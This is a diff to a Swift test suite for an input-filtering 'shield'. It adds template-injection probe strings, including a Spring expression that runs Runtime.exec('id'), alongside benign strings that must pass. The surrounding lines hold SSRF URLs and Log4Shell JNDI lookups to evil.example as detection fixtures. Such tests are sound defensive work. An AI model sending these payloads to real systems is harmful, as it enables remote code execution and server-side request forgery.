@@ -34,6 +34,11 @@ struct ShieldTests {
             ("http://0x7f000001/admin", .serverSideRequestForgery),
             ("gopher://127.0.0.1:6379/_INFO", .serverSideRequestForgery),
             ("{{7*7}}", .templateInjection),
+            // Delimiters closed by a single brace (Spring, Thymeleaf, JSF, Razor-style probes).
+            ("${7*7}", .templateInjection),
+            ("#{7*7}", .templateInjection),
+            ("*{T(java.lang.Runtime).getRuntime().exec('id')}", .templateInjection),
+            ("@{7*7} and more text after it", .templateInjection),
             ("{{''.__class__.__mro__[1].__subclasses__()}}", .templateInjection),
             ("${jndi:ldap://evil.example/a}", .log4Shell),
             ("${${lower:j}${::-n}di:rmi://x/y}", .log4Shell),
@@ -64,6 +69,7 @@ struct ShieldTests {
             "C:\\Program Files\\App", "price >= 10 and <= 20", "javascript:void(0)", "../images/logo.png",
             "The system prompt field", "{{name}}", "a; b; c", "Tom & Jerry | Cartoons", "2 * 3 = 6",
             "user@example.com", "<b>bold</b> and <i>italic</i>", "Error: at Object.u (https://x.example/a.js:1:2)",
+            "Total: ${price} for #{count} items", "Hello @{user}, see *{field}", "${HOME}/bin and ${1} and #{2020}",
         ]
     )
     func passes(_ value: String) {
